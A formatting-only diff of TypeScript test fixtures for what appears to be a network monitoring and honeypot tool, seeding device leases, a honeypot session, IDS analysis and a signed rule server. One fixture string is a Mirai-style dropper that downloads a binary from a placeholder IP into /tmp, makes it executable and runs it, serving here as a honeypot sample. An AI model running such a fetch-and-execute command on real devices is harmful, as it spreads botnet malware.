@@ -22,12 +22,14 @@ export const SCANNER_MAC = '02:00:0a:00:00:42';
 
 export function seedDevices(store: SqliteStore, n: number): void {
   const t = new DeviceTable(store);
-  const leases = [{ mac: SCANNER_MAC, ip: '10.0.0.66', hostname: 'old-laptop', expires: Date.now() + 3600_000 }];
+  const leases = [
+    { mac: SCANNER_MAC, ip: '10.0.0.66', hostname: 'old-laptop', expires: Date.now() + 3600_000 },
+  ];
   for (let i = 1; i < n; i++) {
     const iot = i % 3 === 0;
     leases.push({
       mac: `02:00:00:00:${((i >> 8) & 255).toString(16).padStart(2, '0')}:${(i & 255).toString(16).padStart(2, '0')}`,
-      ip: iot ? `192.168.${20 + (i >> 8)}.${(i & 255) || 1}` : `192.168.${1 + (i >> 8)}.${(i & 255) || 1}`,
+      ip: iot ? `192.168.${20 + (i >> 8)}.${i & 255 || 1}` : `192.168.${1 + (i >> 8)}.${i & 255 || 1}`,
       hostname: iot ? `camera-${i}` : `phone-${i}`,
       expires: Date.now() + 3600_000,
     });
@@ -37,7 +39,9 @@ export function seedDevices(store: SqliteStore, n: number): void {
 
 /** A Mirai-style telnet session against the real honeypot; its sample goes through the sandbox (static). */
 export async function seedHoneypot(store: SqliteStore, dir: string): Promise<string> {
-  const sample = Buffer.from('#!/bin/sh\ncd /tmp; wget http://198.51.100.9/bins/mirai.arm7 -O .x; chmod 777 .x; ./.x telnet\n');
+  const sample = Buffer.from(
+    '#!/bin/sh\ncd /tmp; wget http://198.51.100.9/bins/mirai.arm7 -O .x; chmod 777 .x; ./.x telnet\n',
+  );
   const files = await fileServer({ '/bins/x.sh': sample });
   const reportDir = join(dir, 'reports');
   const hp = new Honeypot({
@@ -82,7 +86,17 @@ export function analyzedEve(dir: string): string {
   writeFileSync(rules, `${SCAN_RULE}\n`);
   const s = moat(['synth', '--seed', '3', '--scenario', 'scan,tls,bruteforce', '--out', pcap]);
   if (s.status !== 0) throw new Error(s.stderr);
-  const a = moat(['analyze', pcap, '--rules', rules, '--policy', 'config/policies.yaml', '--review', '--eve', eve]);
+  const a = moat([
+    'analyze',
+    pcap,
+    '--rules',
+    rules,
+    '--policy',
+    'config/policies.yaml',
+    '--review',
+    '--eve',
+    eve,
+  ]);
   if (a.status !== 0) throw new Error(a.stderr);
   return eve;
 }
@@ -108,7 +122,8 @@ export async function vendorServer(privatePem: string, bundleVersion: string): P
   });
   const model = signBundle(payload, { name: 'vendor-model', version: '2026.1.0', privatePem });
   const server = createServer((req, res) => {
-    const body = req.url === '/rules/latest.json' ? bundle : req.url === '/models/latest.json' ? model : undefined;
+    const body =
+      req.url === '/rules/latest.json' ? bundle : req.url === '/models/latest.json' ? model : undefined;
     res.statusCode = body ? 200 : 404;
     res.setHeader('content-type', 'application/json');
     res.end(body ? JSON.stringify(body) : '{}');
